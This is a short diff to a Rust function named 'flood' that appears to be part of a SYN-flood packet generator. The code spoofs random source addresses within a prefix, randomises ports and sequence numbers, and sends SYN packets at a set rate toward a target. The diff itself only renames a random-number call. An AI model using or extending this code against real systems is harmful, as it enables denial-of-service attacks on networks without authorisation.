@@ -329,14 +329,14 @@ fn flood(
     while !stop.load(Ordering::Acquire) {
         let due = (started.elapsed().as_secs_f64() * f64::from(plan.rate)) as u64;
         while sent.load(Ordering::Relaxed) < due {
-            let dice = random.next();
+            let dice = random.bits();
             let host = (u32::from(plan.prefix.0) & !hosts) | (dice as u32 & hosts);
             let build = Build {
                 mac_source: plan.macs.0,
                 mac_destination: plan.macs.1,
                 source: (host.into(), 1024 + ((dice >> 32) % 60_000) as u16),
                 destination: plan.target,
-                seq: random.next() as u32,
+                seq: random.bits() as u32,
                 ack: 0,
                 flags: flags::SYN,
             };
